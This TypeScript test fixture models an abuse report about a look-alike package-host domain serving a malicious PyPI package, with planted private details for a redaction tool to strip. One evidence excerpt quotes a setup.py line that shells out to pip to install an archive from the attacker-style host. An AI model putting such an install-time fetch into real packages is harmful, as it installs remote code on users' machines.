import type { Matter, Party, Sender } from './matter.ts'
import type { Secrets } from './redact.ts'

/** A matter with everything in it that must not reach a suspect, planted everywhere a person or a log could have left it. For tests. */
export const PLANTED = {
  finder: 'Nora Quist', mailbox: 'nora.quist@lab.example', laboratory: 'Quist Lab', host: 'build-7.acme.example', inner: 'runner-3.build.internal', address: '10.20.30.40',
  token: `ghp_${'Z'.repeat(36)}`, victim: 'Example Bank', sibling: 'pythanhosted.example', case: 'C-2024-0001', rule: 'fetches-from-look-alike',
} as const

export const sender: Sender = { organisation: 'Acme', contact: 'abuse-desk@acme.example', domain: 'acme.example' }

export const secrets: Secrets = {
  words: [
    { word: PLANTED.finder, is: 'the finder' }, { word: PLANTED.mailbox, is: 'the finder' }, { word: PLANTED.laboratory, is: 'the finder' }, { word: PLANTED.victim, is: 'a victim' },
    { word: PLANTED.sibling, is: 'an indicator that is not public' }, { word: PLANTED.rule, is: 'a rule' },
  ],
  domains: ['acme.example'], allowed: [sender.contact],
}

export const registrar: Party = { kind: 'registrar', name: 'Names Ltd', contact: 'abuse@names.example', form: null, mayReachSuspect: true }

const { finder, mailbox, laboratory, host, inner, address, token, victim, sibling } = PLANTED

export const matter: Matter = {
  case: PLANTED.case,
  target: {
    type: 'domain', value: 'files.pypihosted.example', role: 'second-stage', firstSeen: new Date('2024-03-05T06:17Z'), lastSeen: new Date('2024-03-06T17:00Z'), registered: new Date('2024-02-27T00:00Z'),
    registrar: 'Names Ltd', nameServers: ['ns1.dns.example', 'ns2.dns.example'], addresses: ['192.0.2.7', '2001:db8::7'], urls: ['https://files.pypihosted.example/packages/x.tar.gz'], port: null,
  },
  packages: [{ ecosystem: 'pypi', name: 'colour-ish', versions: ['0.4.6'], published: new Date('2024-03-05T01:09Z'), removed: new Date('2024-03-06T17:16Z'), digests: [`sha256:${'ab'.repeat(32)}`, `md5:${'cd'.repeat(16)}`] }],
  deeds: [{
    says: `asks pip, through the shell, to install an archive (seen by ${finder} on ${host})`, file: 'setup.py', lines: [12, 13],
    excerpt: `os.system("pip install https://files.pypihosted.example/packages/x.tar.gz")  # ${address}`, detector: PLANTED.rule,
  }],
  imitates: ['the file host of a package registry: one letter and a word away'],
  related: [{ value: sibling, relation: 'same_registrant' }],
  exhibits: [
    { name: 'capture.txt', mediaType: 'text/plain', digest: `sha256:${'11'.repeat(32)}`, size: 90, description: `what ${laboratory} saw`, nature: 'document', bytes: Buffer.from(`GET /packages/x.tar.gz from ${inner} with ${token}, told by ${mailbox}`) },
    { name: 'gate.log', mediaType: 'text/plain', digest: `sha256:${'22'.repeat(32)}`, size: 40, description: `deliveries to ${victim}`, nature: 'internal', bytes: Buffer.from(`served to ${host} at ${address}`) },
    { name: 'x.tar.gz', mediaType: 'application/gzip', digest: `sha256:${'33'.repeat(32)}`, size: 4_000, description: 'the second stage', nature: 'sample', bytes: Buffer.from('inert') },
    { name: 'shot.png', mediaType: 'image/png', digest: `sha256:${'44'.repeat(32)}`, size: 8, description: 'what the page showed', nature: 'document', bytes: Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]) },
  ],
  before: ['2024-03-06 to the registrar, no answer'],
  background: `Noticed at ${victim} on ${host}.`,
  finder: { name: finder, organisation: laboratory, email: mailbox },
}
